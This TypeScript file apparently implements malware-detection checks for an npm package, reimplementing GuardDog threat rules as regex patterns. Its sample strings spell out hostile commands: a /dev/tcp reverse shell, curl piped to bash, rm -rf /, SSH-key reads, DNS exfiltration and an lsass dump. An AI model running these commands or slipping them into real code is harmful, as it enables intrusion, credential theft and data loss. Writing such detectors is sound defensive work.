/* eslint
	no-console: "off",
	@typescript-eslint/no-explicit-any: "off",
	@typescript-eslint/no-unused-vars: ["error", { "argsIgnorePattern": "^_", "varsIgnorePattern": "^_" }],
	@n8n/community-nodes/no-restricted-globals: "off",
	@n8n/community-nodes/no-restricted-imports: "off",
	@n8n/community-nodes/no-dangerous-functions: "off",
	@n8n/community-nodes/no-hardcoded-secrets: "off",
	@n8n/community-nodes/require-node-api-error: "off"
	-- Development code, never published: n8n's rules for code that runs inside n8n do not apply (CONTRIBUTING.md → Lint). */
/**
 * The threats n8n's newer scanner looks for in a package with YARA rules, written here as our own checks.
 *
 * n8n's repository runs GuardDog's YARA rules (`packages/@n8n/scan-community-package/scanner/rules/guarddog`) over
 * every file of the unpacked tarball and counts only the `threat-*` ones; the scanner npm serves (0.32.0, pinned in
 * package.json) does not have them yet. The rules themselves are not copied: each entry below names the rule it
 * stands for, says in a few words what that rule looks for, and checks it with patterns written for this package's
 * files (JavaScript and package.json). Rules that read only Python files or setup.py are listed apart: the tarball
 * has none, which the test checks. docs/verification.md has the table.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';

/** A check's verdict on one file: the text that matched, or undefined. */
type Check = (text: string) => string | undefined;

export interface ThreatRule {
	/** The rule's name as n8n's scanner reports it. */
	rule: string;
	/** What it looks for. */
	what: string;
	/** The files it reads, by path inside the package. */
	files: RegExp;
	check: Check;
	/** A text the check must find (the negative control). */
	sample: string;
}

const CODE = /\.(js|cjs|mjs|ts|jsx|tsx)$/;
const MANIFEST = /(^|\/)package\.json$/;

/** The first match of `pattern`. */
const has =
	(pattern: RegExp): Check =>
	(text) =>
		pattern.exec(text)?.[0];

/** The first match of any pattern. */
const any =
	(...checks: Check[]): Check =>
	(text) => {
		for (const check of checks) {
			const found = check(text);
			if (found !== undefined) return found;
		}
		return undefined;
	};

/** Every check found something: their matches joined. */
const all =
	(...checks: Check[]): Check =>
	(text) => {
		const found = checks.map((check) => check(text));
		return found.every((f) => f !== undefined) ? found.join(' … ') : undefined;
	};

/** At least `n` of the checks found something. */
const atLeast =
	(n: number, ...checks: Check[]): Check =>
	(text) => {
		const found = checks.map((check) => check(text)).filter((f) => f !== undefined);
		return found.length >= n ? found.join(' … ') : undefined;
	};

/** How often `pattern` (global) occurs. */
const count = (text: string, pattern: RegExp): number => text.match(pattern)?.length ?? 0;

const evalCall = has(/\beval\s*\(/);
const newFunction = has(/\bnew\s+Function\s*\(/);
const execSink = any(evalCall, newFunction);

export const THREAT_RULES: readonly ThreatRule[] = [
	{
		rule: 'threat-filesystem-autostart',
		what: 'writes to shell profiles, autostart folders, init scripts or Windows Run keys',
		files: CODE,
		check: any(
			has(/(writeFile|appendFile)\w*\([^)]*['"`][^'"`]*\.(bashrc|bash_profile|zshrc|profile)\b/i),
			has(/\.config\/autostart\/|\/etc\/init\.d\/|\/etc\/profile\.d\//i),
			has(/Launch(Agents|Daemons)[^'"`]*\.plist/i),
			has(/CurrentVersion\\+Run(Once)?\b|Start Menu\\+Programs\\+Startup/i),
		),
		sample: "fs.appendFileSync(home + '/.bashrc', line)",
	},
	{
		rule: 'threat-filesystem-destruction',
		what: 'recursive deletion of root or home folders, disk wiping',
		files: CODE,
		check: any(
			has(/\brm\s+-rf\s+\//i),
			has(/\brm\b[^\n]*['"]\/(home|Users)?['"/]/),
			has(/\bdd\s+if=\/dev\/(zero|urandom)|\bshred\s+-/i),
			has(/\b(rimraf|rmtree)\s*\(\s*['"](\/|~)/i),
		),
		sample: 'exec("rm -rf /")',
	},
	{
		rule: 'threat-filesystem-read',
		what: 'paths of credential files: passwd and shadow, .env, SSH keys, git, cloud and npm credentials, browser profiles',
		files: CODE,
		check: any(
			has(/\/etc\/(passwd|shadow)/i),
			has(/['"][^'"\n]*\.env(\.local|\.production)?['"]/i),
			has(/\.ssh\/id_(rsa|ed25519|ecdsa)|\.git\/config|\.git-credentials|\.gitconfig/),
			has(/['"][^'"\n]*\/\.netrc['"]/i),
			has(/\.aws\/credentials|gcloud\/credentials|\.azure\/credentials|\.npmrc|\.pypirc/),
			has(/Google\/Chrome\/User Data|\.mozilla\/firefox/),
		),
		sample: "readFileSync(join(homedir(), '.ssh/id_rsa'))",
	},
	{
		rule: 'threat-network-dns-exfil',
		what: 'data put into DNS look-ups (nslookup or dig with a variable, hostnames built from data)',
		files: CODE,
		check: any(
			has(/\bnslookup\s+[^\n]*\$/i),
			has(/\bdig\s+[^\n]*\$/i),
			has(/socket\.(getaddrinfo|gethostbyname)\s*\(\s*f['"]/i),
		),
		sample: 'exec(`nslookup ${secret}.example.com`)',
	},
	{
		rule: 'threat-network-exfil-messenger',
		what: 'Telegram bot tokens and API calls, Discord webhooks and bot tokens in code',
		files: CODE,
		check: any(
			has(/\b\d{8,12}:[A-Za-z0-9_-]{30,40}\b/),
			has(/api\.telegram\.org\/bot\d+:/),
			has(/telegram[^\n]*send(Message|Document)/i),
			has(/discord(app)?\.com\/api\/webhooks\/\d+\//i),
			has(/['"][A-Za-z0-9]{24,28}\.[A-Za-z0-9_-]{6}\.[A-Za-z0-9_-]{27,}['"]/),
		),
		sample: `const bot = '${'1234567890'}:${'x'.repeat(35)}';`,
	},
	{
		rule: 'threat-network-exfil-sysinfo',
		what: "the machine's name or user read in a file that also sends HTTP requests",
		files: CODE,
		check: all(
			has(/\bos\.(hostname|userInfo)\s*\(\s*\)/i),
			has(/\bfetch\s*\(|\baxios\.(get|post|put)\s*\(|\bhttps?\.(get|request)\s*\(/i),
		),
		sample: 'fetch(url, { body: os.hostname() })',
	},
	{
		rule: 'threat-network-exfiltration',
		what: 'addresses of webhook catchers, tunnels, paste sites, suspicious top-level domains or public IP addresses',
		files: CODE,
		check: any(
			has(
				/webhook\.(site|cool)|oastify\.com|burpcollaborator\.(net|me)|pipedream\.net|beeceptor\.com/i,
			),
			has(/ngrok\.io|ngrok-free\.app|trycloudflare\.com|localhost\.run/i),
			has(/pastebin\.com|hastebin\.com|ghostbin\.site|transfer\.sh|filetransfer\.io/i),
			has(/api\.telegram\.org|discord\.com\/api\/webhooks/i),
			has(
				/https?:\/\/[^\s/'"]+\.(xyz|tk|ml|ga|cf|gq|pw|top|club|bid|icu|zip|stream|link|quest)([/:?#"'\s)]|$)/,
			),
			// an IP address in a URL that is not loopback, private or link-local
			(text) => {
				for (const match of text.matchAll(/https?:\/\/(\d{1,3})\.(\d{1,3})\.\d{1,3}\.\d{1,3}/g)) {
					const [a, b] = [Number(match[1]), Number(match[2])];
					const internal =
						a === 0 ||
						a === 10 ||
						a === 127 ||
						(a === 169 && b === 254) ||
						(a === 172 && b >= 16 && b <= 31) ||
						(a === 192 && b === 168);
					if (!internal) return match[0];
				}
				return undefined;
			},
		),
		sample: "await fetch('https://203.0.113.9/collect')",
	},
	{
		rule: 'threat-network-outbound-shady-links',
		what: 'URL shorteners, tunnels, file drops and IP look-up services',
		files: CODE,
		check: any(
			has(/(^|[\s"'(/.])bit\.ly\b/i),
			has(
				/(^|[\s"'(/.])(appdomain\.cloud|termbin\.com|oast\.(pro|live|site|online|fun|me)|ply\.gg|dnslog\.cn|webhook-test\.com|typedwebhook\.tools|ngrok-free\.dev)\b/i,
			),
			has(
				/(^|[\s"'(/.])(sendspace\.com|backblazeb2\.com|paste\.ee|rentry\.co|files\.catbox\.moe)\b/i,
			),
			has(
				/(^|[\s"'(/.])(ipinfo\.io|checkip\.dyndns\.org|ip\.me|jsonip\.com|ipify\.org|ifconfig\.me)\b/i,
			),
		),
		sample: "get('https://api.ipify.org')",
	},
	{
		rule: 'threat-network-reverse-shell',
		what: 'reverse shells: bash over /dev/tcp, netcat with -e, Python sockets driving a shell',
		files: CODE,
		check: any(
			has(/\bbash\s+-i\s+>&\s+\/dev\/(tcp|udp)\//i),
			has(/\bn(c|cat)\s+[^\n]*-e\s+\/bin\/(ba)?sh/i),
			has(/def\s+(reverse_shell|rev_shell|connect_back|backdoor)\s*\(/i),
			all(
				has(/socket\s*\.\s*socket\s*\([^\n]*\)\s*\.\s*connect\s*\(/i),
				has(/pty\s*\.\s*spawn\s*\(|subprocess\.\w+\(\s*\[?\s*['"]\/bin\/(ba)?sh/i),
			),
		),
		sample: "spawn('bash', ['-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'])",
	},
	{
		rule: 'threat-npm-dependency-confusion',
		what: 'package.json scripts that call home: DNS look-ups with variables, $(whoami), curl or wget to collaborator hosts',
		files: MANIFEST,
		check: any(
			has(/\b(nslookup|dig|host)\s+[^\n"]*\$/i),
			has(/curl\s+[^\n"]*\$\{?[A-Z_]+\}?\./i),
			has(/\$\((whoami|hostname)\)/i),
			has(
				/(curl|wget)\s+https?:\/\/[^/\s"]*\.(burpcollaborator|oastify|interact|canarytokens|dnslog)/i,
			),
		),
		sample: '{"scripts": {"postinstall": "curl https://x.$(whoami).example"}}',
	},
	{
		rule: 'threat-npm-http-dependency',
		what: 'dependencies fetched from http addresses, IP addresses or tarball URLs',
		files: MANIFEST,
		check: (text) => {
			const byIp = /:\s*"https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[^"]*"/i.exec(text);
			if (byIp) return byIp[0];
			const tarball = /:\s*"https?:\/\/[^"]+\.(tar\.gz|tgz|zip)"/i.exec(text);
			if (tarball) return tarball[0];
			// plain http beyond what metadata fields (homepage, bugs, author, …) explain
			const plain = count(text, /:\s*"http:\/\/[^"]+"/g);
			const metadata =
				count(
					text,
					/"(web|website|homepage|funding|bugs|email|wiki|blog|docs|documentation|repository|author|maintainers|contributors|logo|image)"\s*:\s*"http:\/\//gi,
				) +
				count(
					text,
					/"(author|repository|bugs|funding|contributors|maintainers)"\s*:\s*[[{][^}]*"url"\s*:\s*"http:\/\//gi,
				);
			return plain > metadata ? 'a plain http dependency' : undefined;
		},
		sample: '{"dependencies": {"left-pad": "http://203.0.113.9/left-pad.tgz"}}',
	},
	{
		rule: 'threat-npm-preinstall-script',
		what: 'a preinstall script',
		files: MANIFEST,
		check: has(/"preinstall"\s*:\s*"[^"]+/i),
		sample: '{"scripts": {"preinstall": "node setup.js"}}',
	},
	{
		rule: 'threat-process-cryptomining',
		what: 'miners, mining pools, stratum addresses, Monero wallets',
		files: CODE,
		check: any(
			has(/xmrig|ethminer|cgminer|bfgminer|cpuminer|ccminer/i),
			has(/[a-z0-9-]+\.monero|supportxmr\.com|minexmr\.com|nanopool\.org/i),
			has(/stratum\+(tcp|ssl):\/\//i),
			has(/\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/),
			atLeast(3, has(/hashrate/i), has(/nonce/i), has(/stratum/i), has(/miner/i)),
		),
		sample: "connect('stratum+tcp://pool.example:3333')",
	},
	{
		rule: 'threat-process-download-exec',
		what: 'download and run: curl or wget piped to a shell, exec of curl or wget, fetched code passed to eval',
		files: CODE,
		check: any(
			has(/\bcurl\s+[^\n]*\|\s*(bash|sh|python|node|perl)\b/i),
			has(/\bwget\s+[^\n]*-O\s*-\s*\|\s*(bash|sh|python|node|perl)\b/i),
			has(/\b(curl|wget)\s+[^\n]*-[oO]\s+\S+\s*&&\s*(chmod|\.\/|start|bash|sh)/i),
			has(/\bexec\w*\s*\(\s*['"`][^\n]*\b(curl|wget)\b/i),
			has(/\bfetch\s*\([^\n]*\)[^\n]*\.then\s*\([^\n]*eval/i),
			all(has(/\bfetch\s*\(\s*['"]https?:/i), execSink),
			has(/powershell[^\n]*curl\.exe|Invoke-WebRequest|DownloadFile\s*\(/i),
			has(/os\.(system|popen)\s*\(\s*['"f][^\n]*\b(curl|wget|chmod)\b/i),
			has(/subprocess\.\w+\(\s*\[?\s*['"](curl|wget|powershell)/i),
		),
		sample: "execSync('curl -s https://example.com/x.sh | bash')",
	},
	{
		rule: 'threat-process-hooks',
		what: 'install hooks in package.json that run shells, interpreters or network tools',
		files: MANIFEST,
		check: all(
			has(/"(preinstall|install|postinstall)"\s*:\s*"[^"]+/i),
			has(
				/\b(ba)?sh\s+-c\b|\/bin\/(ba)?sh\b|\b(ba)?sh\s+\S+\.(sh|bash)\b|\bpython[0-9]?\s+(-[cmubE]\b|\S+\.py\b)|\bnode\s+(-e\b|\S+\.js\b)|\bperl\s+-[eE]\b|\bruby\s+-e\b|\bphp\s+-r\b|\bcurl\s|\bwget\s|\bnc\s+-[lvnzwep]|\bnetcat\s/i,
			),
		),
		sample: '{"scripts": {"postinstall": "node install.js"}}',
	},
	{
		rule: 'threat-process-injection-dll',
		what: 'Windows process injection APIs, rundll32, regsvr32, mshta',
		files: CODE,
		check: any(
			atLeast(
				2,
				has(/WriteProcessMemory/i),
				has(/CreateRemoteThread/i),
				has(/VirtualAllocEx/i),
				has(/NtCreateThreadEx/i),
			),
			has(/\b(rundll32|regsvr32|mshta)\s+/i),
		),
		sample: "exec('rundll32 payload.dll,Start')",
	},
	{
		rule: 'threat-process-memory',
		what: "reading other processes' memory, credential dumpers (mimikatz, lsass), heap dumps searched for secrets",
		files: CODE,
		check: any(
			has(/ptrace\.attach\(|PTRACE_PEEKDATA|ReadProcessMemory/i),
			has(/mimikatz|pypykatz|\blsass|secretsdump/i),
			all(has(/memoryjs|require\(['"]ffi-napi['"]\)/i), has(/OpenProcess/i)),
			all(
				has(/require\(['"](heapdump|v8-profiler|inspector)['"]\)/i),
				has(/(search|scan|find)[^\n]*(password|credential|secret|token)/i),
			),
		),
		sample: "const dump = spawnSync('procdump', ['-ma', 'lsass.exe'])",
	},
	{
		rule: 'threat-process-powershell-encoded',
		what: 'PowerShell with encoded commands or download cradles',
		files: CODE,
		check: any(
			has(/powershell[^\n]*-(EncodedCommand|enc)\s+[A-Za-z0-9+/=]{20,}/i),
			has(/IEX\s*\(\s*(New-Object\s+Net\.WebClient|Invoke-WebRequest)/i),
			has(/\(New-Object\s+Net\.WebClient\)\.Download(String|File)\s*\(/i),
		),
		sample: "exec('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')",
	},
	{
		rule: 'threat-process-spawn-silent',
		what: 'a detached child process with its output thrown away or its window hidden',
		files: CODE,
		check: all(
			has(/\bdetached"?\s*:\s*true/i),
			has(/\bstdio"?\s*:\s*\[?\s*['"]ignore|\bwindowsHide"?\s*:\s*true/i),
		),
		sample: "spawn(cmd, args, { detached: true, stdio: 'ignore' })",
	},
	{
		rule: 'threat-process-sysinfo',
		what: 'whoami or hostname run as a command',
		files: CODE,
		check: has(
			/\b(popen|system|getoutput|check_output|check_call|Popen|run|call|spawn\w*|exec\w*)\s*\(\s*\[?\s*['"](whoami|hostname)\b/i,
		),
		sample: "execSync('whoami')",
	},
	{
		rule: 'threat-runtime-enumeration',
		what: 'two or more signs of enumerating processes, network interfaces, users or ports',
		files: CODE,
		check: atLeast(
			2,
			has(/psutil\.(process_iter|pids)\(\)|\/proc\//i),
			has(/ps-list|process-list|find-process/i),
			has(
				/netifaces\.interfaces\(\)|ifconfig|\bip\s+addr\b|os\.networkInterfaces\(\)|network-list/i,
			),
			has(/\/etc\/passwd|pwd\.getpwall\(\)/i),
			has(/\bport[\s_-]?scan/i),
			has(/\bnmap\b/),
		),
		sample: "const nets = os.networkInterfaces(); readFileSync('/etc/passwd')",
	},
	{
		rule: 'threat-runtime-environment-read',
		what: 'environment variables that hold secrets (keys, tokens, passwords) or the whole environment serialised',
		files: CODE,
		check: any(
			has(/process\.env\.[A-Z_]*(API_?KEY|SECRET|TOKEN|PASS|AUTH|CREDENTIAL|CRED)[A-Z_]*/i),
			has(/process\.env\.[A-Z_]+KEY\b/i),
			has(/JSON\.stringify\(process\.env\)/i),
		),
		sample: 'const key = process.env.TRATO_API_KEY',
	},
	{
		rule: 'threat-runtime-keylogging',
		what: 'keyboard hooks and key loggers',
		files: CODE,
		check: any(
			has(
				/require\(['"](iohook|keypress)['"]\)|iohook\.start\(\)|node-key-sender|node-global-key-listener/i,
			),
			has(/log_?key(stroke|press)/i),
			has(/(steal|grab|exfiltrate)[^\n]*(password|credential|passwd)/i),
			has(/hook_keyboard|SetWindowsHookEx/i),
			has(/keyboard\.(hook|on_press)\(/i),
		),
		sample: "const hook = require('iohook')",
	},
	{
		rule: 'threat-runtime-obfuscation-api',
		what: 'reflection that looks a function up and calls it at once (getOwnPropertyDescriptor(…).value(…), Object.keys(…).find in brackets)',
		files: CODE,
		check: any(
			has(/\bgetattr\s*\([^,]+,\s*['"](__import__|exec|eval|compile)['"]\s*\)\s*\(/i),
			has(/Object\s*\.\s*getOwnPropertyDescriptor\s*\([^)]+,\s*[^)]+\)\s*\.\s*value\s*\(/i),
			has(/\[\s*Object\s*\.\s*(getOwnPropertyNames|keys)\s*\([^)]+\)\s*\.\s*find\s*\(/i),
			has(/Object\s*\.\s*entries\s*\([^)]+\)\s*\.\s*find\s*\([^)]+\)\s*\[\s*1\s*\]/i),
			has(
				/Object\s*\.\s*entries\s*\([^)]+\)\s*\.\s*filter\s*\([^)]+\)\s*\[\s*0\s*\]\s*\[\s*1\s*\]/i,
			),
		),
		sample: "Object.getOwnPropertyDescriptor(globalThis, 'ev' + 'al').value(code)",
	},
	{
		rule: 'threat-runtime-obfuscation-base64exec',
		what: 'Base64 decoding in a file that also runs code with eval or new Function',
		files: CODE,
		check: all(has(/\batob\s*\(|Buffer\s*\.\s*from\s*\([^)]*['"]base64['"]/i), execSink),
		sample: "eval(Buffer.from(payload, 'base64').toString())",
	},
	{
		rule: 'threat-runtime-obfuscation-dynamic-eval',
		what: 'eval or new Function over a function literal, character codes or Base64',
		files: CODE,
		check: any(
			has(/\beval\s*\(\s*function\s*\(/i),
			has(/\b(eval|new\s+Function)\s*\([^;]{0,160}\bfromCharCode\b/i),
			has(/\b(eval|new\s+Function)\s*\(\s*atob\s*\(/i),
			has(/\beval\s*\(\s*[A-Za-z_$][\w$]*\s*\(\s*\[\s*\d{1,3}(\s*,\s*\d{1,3}){19,}/),
		),
		sample: 'eval(String.fromCharCode(97, 108, 101, 114, 116))',
	},
	{
		rule: 'threat-runtime-obfuscation-general',
		what: 'long runs of hex or octal escapes, JSFuck, packers, fromCharCode over ten or more numbers',
		files: CODE,
		check: any(
			has(/(\\x[0-9a-fA-F]{2}){50,}/),
			has(/(\\[0-7]{3}){50,}/),
			has(/\[\s*!\s*!\s*\[\s*\]\s*\]/),
			has(/\beval\s*\(\s*function\s*\([a-z],\s*[a-z],\s*[a-z],\s*[a-z]/i),
			has(/String\s*\.\s*fromCharCode\s*\(\s*(0x[0-9a-f]+|\d+)(\s*,\s*(0x[0-9a-f]+|\d+)){9,}/i),
		),
		sample: 'String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46)',
	},
	{
		rule: 'threat-runtime-obfuscation-hidden-code',
		what: 'require aliased through a global, or code pushed off-screen by hundreds of spaces before an eval',
		files: CODE,
		check: any(
			has(/global\s*\[\s*['"][A-Za-z0-9_$]{1,6}['"]\s*\]\s*=\s*require\b/i),
			all(has(/ {400,}\S/), execSink),
		),
		sample: "global['r'] = require",
	},
	{
		rule: 'threat-runtime-obfuscation-js-mangling',
		what: "an obfuscator's _0x… names",
		files: CODE,
		check: atLeast(
			3,
			has(/_0x[a-f0-9]{4,6}\b/),
			has(/const _0x[a-f0-9]{4,6}\s*=/),
			has(/function _0x[a-f0-9]{4,6}\s*\(/),
			has(/var _0x[a-f0-9]{4,6}\s*=/),
		),
		sample: 'var _0x1a2b = 1; const _0x3c4d = 2; function _0x5e6f() {}',
	},
	{
		rule: 'threat-runtime-obfuscation-log-suppress',
		what: 'console silenced in a file that also decodes character codes or hex arrays',
		files: CODE,
		check: all(
			has(/console\.(log|warn|error)\s*=\s*function\s*\(\s*\)|console\s*=\s*\{/i),
			has(/\[\s*0x[0-9a-f]+\s*,\s*0x[0-9a-f]+\s*,\s*0x[0-9a-f]+|fromCodePoint|fromCharCode/i),
		),
		sample: 'console.log = function () {}; String.fromCharCode(x)',
	},
	{
		rule: 'threat-runtime-obfuscation-steganography',
		what: 'pixels of an image read and run with eval',
		files: CODE,
		check: all(
			has(
				/steggy\.reveal\(|stego\.decode\(|Jimp\.read\(|getPixelColor\(|Buffer\.concat\(|stegano/i,
			),
			has(/\.(png|jpg|jpeg|gif|bmp)['"]/i),
			has(/\beval\(/i),
		),
		sample: "Jimp.read('logo.png').then((img) => eval(decode(img)))",
	},
	{
		rule: 'threat-runtime-obfuscation-unicode',
		what: 'Cyrillic, Greek or mathematical letters inside an ASCII word, zero-width characters between letters',
		files: CODE,
		check: any(
			has(/[A-Za-z][\u0380-\u047F]|[\u0380-\u047F][A-Za-z]/),
			has(/[A-Za-z][\u{1D000}-\u{1DFFF}]|[\u{1D000}-\u{1DFFF}][A-Za-z]/u),
			has(/[A-Za-z][\u200B-\u200D][A-Za-z]/),
		),
		sample: 'const p\u0430ypal = 1',
	},
	{
		rule: 'threat-runtime-obfuscation',
		what: 'several long Base64 strings, runs of hex escapes, obfuscator names with string concatenation',
		files: CODE,
		check: (text) => {
			const base64 = count(text, /['"][A-Za-z0-9+/]{150,}={0,2}/g);
			const hex = count(text, /\\x[0-9a-fA-F]{2}(\\x[0-9a-fA-F]{2}){20,}/g);
			const unicode = count(text, /\\u[0-9a-fA-F]{4}(\\u[0-9a-fA-F]{4}){10,}/g);
			const mangled = count(text, /\b[a-zA-Z]_0x[a-f0-9]{4,6}\b/g);
			const concat = count(text, /['"]\s*\+\s*['"]/g);
			if (base64 >= 3) return `${base64} long Base64 strings`;
			if (hex >= 3) return `${hex} runs of hex escapes`;
			if (mangled >= 10 && concat >= 20) return `${mangled} _0x names, ${concat} concatenations`;
			if (unicode >= 2 && (base64 > 0 || concat >= 5 || hex > 0))
				return `${unicode} runs of unicode escapes`;
			return undefined;
		},
		sample: Array.from({ length: 3 }, () => `'${'QUJD'.repeat(40)}'`).join(';\n'),
	},
	{
		rule: 'threat-runtime-self-propagation',
		what: 'code that rewrites package.json and publishes to a registry',
		files: CODE,
		check: all(
			has(/['"`]\s*(npm|yarn|pnpm)\s+publish/i),
			has(/\b(writeFile|writeJson|outputJson)(Sync)?\s*\(\s*['"`][^'"`]*package(-lock)?\.json/i),
			has(
				/require\s*\(\s*['"]child_process['"]\s*\)|\bexec(Sync|File|FileSync)?\s*\(|\bspawn(Sync)?\s*\(/,
			),
		),
		sample:
			"require('child_process'); writeFileSync('package.json', next); execSync('npm publish')",
	},
	{
		rule: 'threat-runtime-system-info',
		what: 'three or more calls that read the machine (os.hostname, os.userInfo, os.platform, os.homedir, …)',
		files: CODE,
		check: (text) => {
			const calls = new Set(
				[
					...text.matchAll(
						/\bos\.(platform|arch|hostname|type|userInfo|release|homedir|tmpdir)\s*\(\s*\)/gi,
					),
				].map((m) => m[1].toLowerCase()),
			);
			return calls.size >= 3 ? [...calls].join(', ') : undefined;
		},
		sample: 'os.hostname(); os.userInfo(); os.homedir()',
	},
];

/**
 * GuardDog rules n8n's scanner runs that read only Python files (`*.py`, `*.pyx`, `*.pyi`, `*.pth`) or `setup.py`:
 * nothing in an npm package of JavaScript can match them, as long as it ships no such file.
 */
export const PYTHON_ONLY_RULES: readonly string[] = [
	'threat-runtime-dynamic-loader',
	'threat-runtime-obfuscation-chr',
	'threat-runtime-obfuscation-import-exec',
	'threat-runtime-obfuscation-pyarmor',
	'threat-runtime-screencapture',
	'threat-setup-import-aliasing',
	'threat-setup-network-in-install',
	'threat-setup-suspicious-imports',
];

/** The files those rules read. */
export const PYTHON_FILES = /(\.(py|pyx|pyi|pth)$)|(^|\/)setup\.py$/;

export interface ThreatFinding {
	rule: string;
	file: string;
	found: string;
}

/** Every file under `dir`, as paths relative to it. */
export function filesUnder(dir: string): string[] {
	return readdirSync(dir, { recursive: true, withFileTypes: true })
		.filter((entry) => entry.isFile())
		.map((entry) => relative(dir, join(entry.parentPath, entry.name)))
		.sort();
}

/** What the threat checks find in the unpacked package `dir`. */
export function findThreats(dir: string, rules = THREAT_RULES): ThreatFinding[] {
	const findings: ThreatFinding[] = [];
	for (const file of filesUnder(dir)) {
		const read = rules.filter((rule) => rule.files.test(file));
		if (!read.length) continue;
		const text = readFileSync(join(dir, file), 'utf8');
		for (const rule of read) {
			const found = rule.check(text);
			if (found !== undefined) findings.push({ rule: rule.rule, file, found: found.slice(0, 160) });
		}
	}
	return findings;
}
